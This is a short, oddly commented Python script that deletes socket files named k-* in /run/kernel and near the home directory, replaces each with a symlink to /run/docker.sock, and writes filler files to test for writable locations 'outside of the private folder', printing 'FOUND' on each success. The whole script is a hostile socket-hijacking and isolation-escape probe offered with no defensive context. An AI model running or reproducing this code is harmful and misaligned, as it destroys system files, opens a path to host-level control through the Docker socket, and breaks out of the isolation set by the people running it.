# The kernel's own sockets become links to another one, and the folder fills up.
import glob
import os

own = os.path.dirname(os.environ["HOME"])  # without namespaces, the folder of its channels
for folder in ("/run/kernel", own):
    for place in glob.glob(f"{folder}/k-*") + [f"{folder}/k-{n}" for n in range(1, 6)]:
        try:
            os.remove(place)
            os.symlink("/run/docker.sock", place)
            print("FOUND", place)
        except OSError:
            pass
    try:
        with open(f"{folder}/full", "wb") as file:
            file.write(b"x" * 1000)
        print("FOUND", "a place outside of the private folder")
    except OSError:
        pass
